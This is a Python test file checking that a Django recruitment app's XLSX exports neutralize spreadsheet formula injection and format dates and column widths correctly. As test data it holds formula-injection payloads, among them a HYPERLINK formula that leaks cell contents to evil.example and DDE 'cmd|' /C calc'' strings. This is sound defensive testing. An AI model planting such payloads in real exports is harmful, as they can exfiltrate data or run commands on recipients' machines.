"""The XLSX exports: a text that a spreadsheet would run as a formula is written as text
(in every exported text column of every export), dates are date cells shown DD/MM/YYYY,
and columns fit their content (long labels wrap instead of being cut)."""

import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apprentissage.tabular import xlsx_bytes
from recruitment.enums import DossierState
from recruitment.models import AccordPrealable, Dossier
from recruitment.views.staff import EXPORT_HEADERS

FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?x="&A2,"Cliquez")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|A0",  # fits a SIRET's 14 characters
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def _cells(content: bytes):
    return list(load_workbook(io.BytesIO(content)).active.iter_rows())


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_text_starting_like_a_formula_is_written_as_text(text):
    content = xlsx_bytes(["Entreprise"], [[text]], title="Test")

    cell = _cells(content)[1][0]
    # (XML reads a CR back as a line feed: the cell is still the text, not a formula)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    assert "<f>" not in _sheet_xml(content)


def test_plain_texts_and_numbers_keep_their_type():
    content = xlsx_bytes(["Texte", "Nombre", "Négatif"], [["Albi", 12, -3]], title="Test")

    cells = _cells(content)[1]
    assert [(c.value, c.data_type) for c in cells] == [("Albi", "s"), (12, "n"), (-3, "n")]
    assert not cells[0].quotePrefix


def test_dates_are_date_cells_shown_day_month_year():
    content = xlsx_bytes(
        ["Début", "Instant"],
        [[datetime.date(2027, 9, 1), datetime.datetime(2027, 9, 1, 8, 30, tzinfo=datetime.UTC)]],
        title="Test",
    )

    day, moment = _cells(content)[1]
    assert (day.value, day.is_date, day.number_format) == (
        datetime.datetime(2027, 9, 1),
        True,
        "DD/MM/YYYY",
    )
    # an aware date and time is written in local time (Europe/Paris: UTC+2 in September)
    assert (moment.value, moment.number_format) == (datetime.datetime(2027, 9, 1, 10, 30), "DD/MM/YYYY HH:MM")


def test_columns_fit_their_content_and_long_labels_wrap():
    long_label = "Responsable amélioration continue et méthodes industrielles, site d'Albi " * 2
    content = xlsx_bytes(
        ["N°", "Entreprise", "Fonction"], [[1, "Aéro Tarn Industries SAS", long_label]], title="T"
    )

    sheet = load_workbook(io.BytesIO(content)).active
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABC"}
    assert widths["B"] >= len("Aéro Tarn Industries SAS")  # not cut
    assert widths["C"] <= 62 and sheet["C2"].alignment.wrap_text  # wraps
    assert not sheet["B2"].alignment.wrap_text
    assert sheet["C2"].value == long_label


def _formula_dossier(world) -> Dossier:
    """World's dossier, handed to MidiSup, with a formula in every text it exports."""
    dossier = world.dossier
    user = dossier.candidate.user
    user.first_name, user.last_name = FORMULAS["="], FORMULAS["+"]
    user.email = "=cmd|' /C calc'!A0@example.com"
    user.save()
    dossier.option.name = FORMULAS["@"]
    dossier.option.save()
    AccordPrealable.objects.filter(pk=dossier.accord.pk).update(
        company_name=FORMULAS["="],
        siret=FORMULAS["-"],
        hr_first_name=FORMULAS["@"],
        hr_last_name="",
        hr_email="@evil.example",
        hr_phone="+33 6 12 34 56 78",
        tutor_first_name=FORMULAS["tab"],
        tutor_last_name="",
        tutor_email=FORMULAS["cr"],
        start_date=datetime.date(2027, 9, 1),
    )
    Dossier.objects.filter(pk=dossier.pk).update(
        state=DossierState.WITH_MIDISUP, convention_signed_on=datetime.date(2027, 6, 30)
    )
    return dossier


TEXT_COLUMNS = {
    "Candidat": f"{FORMULAS['=']} {FORMULAS['+'].upper()}",  # the last name in capitals
    "E-mail candidat": "=cmd|' /C calc'!A0@example.com",
    "Option": FORMULAS["@"],
    "Entreprise": FORMULAS["="],
    "SIRET": FORMULAS["-"],
    "Contact RH": FORMULAS["@"],
    "E-mail RH": "@evil.example",
    "Téléphone RH": "+33 6 12 34 56 78",
    "Tuteur entreprise": FORMULAS["tab"].strip(),  # "=1+1": the name is stripped
    "E-mail tuteur": FORMULAS["cr"].replace("\r", "\n"),  # XML reads a CR as a line feed
}


@pytest.mark.parametrize(
    ("url_name", "persona"),
    [("recruitment:board_export", "scolarite"), ("recruitment:midisup_export", "midisup")],
)
def test_recruitment_exports_write_every_text_column_as_text_and_dates_as_dates(
    world, login, url_name, persona
):
    # Arrange
    _formula_dossier(world)
    client = login(world[persona])

    # Act
    response = client.get(reverse(url_name))

    # Assert: no formula anywhere; each text column as typed; the dates are date cells
    assert response.status_code == 200
    assert "<f>" not in _sheet_xml(response.content)
    header, *rows = _cells(response.content)
    assert [c.value for c in header] == EXPORT_HEADERS
    row = next(r for r in rows if r[0].value == TEXT_COLUMNS["Candidat"])
    cells = dict(zip(EXPORT_HEADERS, row, strict=True))
    for column, text in TEXT_COLUMNS.items():
        assert (cells[column].value, cells[column].data_type) == (text, "s"), column
        assert cells[column].quotePrefix, column
    for column in ("Dernier mouvement", "Début du contrat", "Convention signée le"):
        assert cells[column].is_date and cells[column].number_format == "DD/MM/YYYY", column
    assert cells["Début du contrat"].value == datetime.datetime(2027, 9, 1)


def test_the_import_template_writes_its_examples_as_text(world, login):
    response = login(world["scolarite"]).get(reverse("recruitment:candidate_import_template"))

    assert response.status_code == 200 and "<f>" not in _sheet_xml(response.content)


def test_planning_export_dates_are_date_cells(world, login):
    response = login(world["scolarite"]).get(reverse("planning:export_xlsx", args=[2025]))

    assert response.status_code == 200 and "<f>" not in _sheet_xml(response.content)
    first = _cells(response.content)[1]
    assert [c.value for c in first[:3]] == [
        38,
        datetime.datetime(2025, 9, 15),
        datetime.datetime(2025, 9, 19),
    ]
    assert all(c.number_format == "DD/MM/YYYY" for c in first[1:3])
